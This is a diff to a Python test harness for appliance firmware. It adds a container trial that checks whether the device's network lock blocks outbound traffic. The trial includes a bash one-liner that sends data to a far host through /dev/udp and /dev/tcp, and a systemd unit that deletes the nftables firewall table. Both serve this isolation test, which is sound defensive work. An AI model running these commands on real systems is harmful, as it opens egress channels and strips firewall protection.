@@ -8,6 +8,7 @@ import subprocess
 import sys
 import time
 
+from container import BITS, BOX, FAR, ROUTER, Container
 from machine import CACHE, PATIENCE_S, Failed, Machine, run
 from secretary import Secretary
 from technician import Technician
@@ -42,12 +43,20 @@ def nothing_outside(box):
 
 # The demonstration's caller, whom the simulated line carries in real time: plugged in on a USB key, rung by a unit of the trial's.
 ASKED = ("open", "consent", "last-name", "first-name", "birth-date", "phone", "slot", "confirm", "other")
-RINGS = {
-    "trial-ring.path": "[Path]\nPathExists=/run/usb/trial/open.wav\n",
-    "trial-ring.service": "[Service]\nType=oneshot\nRemainAfterExit=yes\nStandardOutput=file:/dev/ttyS1\nStandardError=file:/dev/ttyS1\n"
-    "ExecStart=/usr/bin/huisclos ring --json --run-dir /run/huisclos --from 0612345678 --wav "
-    + " ".join(f"{asked}=/run/usb/trial/{asked}.wav" for asked in ASKED) + "\n",
-}
+
+
+def rings(folder, when):
+    """Units that ring the line with her voice, once the file `when` is there."""
+    voices = " ".join(f"{asked}={folder}/{asked}.wav" for asked in ASKED)
+    return {
+        "trial-ring.path": f"[Path]\nPathExists={when}\n",
+        "trial-ring.service": "[Service]\nType=oneshot\nRemainAfterExit=yes\n"
+        "StandardOutput=file:/dev/ttyS1\nStandardError=file:/dev/ttyS1\n"
+        f"ExecStart=/usr/bin/huisclos ring --json --run-dir /run/huisclos --from 0612345678 --wav {voices}\n",
+    }
+
+
+RINGS = rings("/run/usb/trial", "/run/usb/trial/open.wav")
 
 
 def caller(name):
@@ -119,6 +128,70 @@ def first_boot(version):
     shutil.rmtree(ROOT / f"installed-{version}", ignore_errors=True)
     installed(version, "first-boot")
     return json.loads((ROOT / f"installed-{version}" / "said").read_text())
+
+
+# Somebody on the box who wants to speak to the Internet: over UDP and TCP, and the same with the lock broken open.
+LEAK = ("/bin/bash -c 'for n in 1 2 3; do echo voix > /dev/udp/{far}/53; timeout 3 bash -c \"echo voix > /dev/tcp/{far}/443\"; sleep 1; done; exit 0'")
+
+
+def in_container(version):
+    """The image's root in a container, at this machine's own speed: installed by the assistant, a call answered in real time, what
+    it takes when idle, and nothing outside of the cabinet's network whatever is tried; with the lock open, the twin, it is seen."""
+    leak = LEAK.format(far=FAR)
+    units = {
+        **rings("/var/lib/trial", "/var/lib/trial/ring"),
+        "trial-leak.path": "[Path]\nPathExists=/var/lib/trial/leak\n",
+        "trial-leak.service": f"[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart={leak}\n",
+        "trial-open.path": "[Path]\nPathExists=/var/lib/trial/open-lock\n",
+        "trial-open.service": "[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/usr/sbin/nft delete table inet huisclos\n"
+        f"ExecStart={leak}\n",
+    }
+    box = Container(ROOT / "container", version, units)
+    trial = box.root / "var/lib/trial"
+    trial.mkdir()
+    for asked in ASKED:
+        shutil.copy(f"/src/firmware/appliance/demo/{asked}.wav", trial)
+    box.start()
+    try:
+        return through(box, trial)
+    finally:
+        box.stop()
+
+
+def through(box, trial):
+    """The trial in the container, once it was started."""
+    said = box.ready()
+    technician = Technician(box, f"{BOX}/{BITS}", ROUTER)
+    technician.opens()
+    steps = technician.installs(lambda: (trial / "ring").touch())
+    call = called(box)
+    status, page = box.page()
+    must(status in (200, 302, 303), f"the page answers {status}")
+    before = technician.does("etat")
+    must("0 octets hors du réseau" in before and "refusé :" not in before, f"the console's count: {before}")
+    idle = box.idle(60)
+    (trial / "leak").touch()
+    state = until(lambda: technician.does("etat"), lambda state: f"refusé : {FAR}" in state)
+    must("0 octets hors du réseau" in state, f"the console's count: {state}")
+    refused = re.search(r"(\d+) paquets refusés", state).group(1)
+    sent = box.sent()
+    must(sent["outside"] == 0, f"seen on the far side: {sent}")
+    # The twin: without the lock the far side sees it, so it would have.
+    (trial / "open-lock").touch()
+    until(box.sent, lambda sent: sent["outside"] > 0)
+    return {**said, "assistant": steps, "call": call, "page_status": status, "page_bytes": page, **idle, "refused": int(refused),
+            "seen_far": sent, "seen_far_with_the_lock_open": box.sent()}
+
+
+def until(look, holds):
+    """Looks until it holds; gives what was seen."""
+    limit = time.monotonic() + 120
+    while time.monotonic() < limit:
+        seen = look()
+        if holds(seen):
+            return seen
+        time.sleep(1)
+    raise Failed(f"never came: {seen}")
 
 
 def power_cut(version):
@@ -258,7 +331,7 @@ def bad_update(version):
     return said
 
 
-TRIALS = {"first-boot": first_boot, "power-cut": power_cut, "wrong-tpm": wrong_tpm, "reset": reset, "update": update,
+TRIALS = {"container": in_container, "first-boot": first_boot, "power-cut": power_cut, "wrong-tpm": wrong_tpm, "reset": reset, "update": update,
           "bad-update": bad_update}
 
 
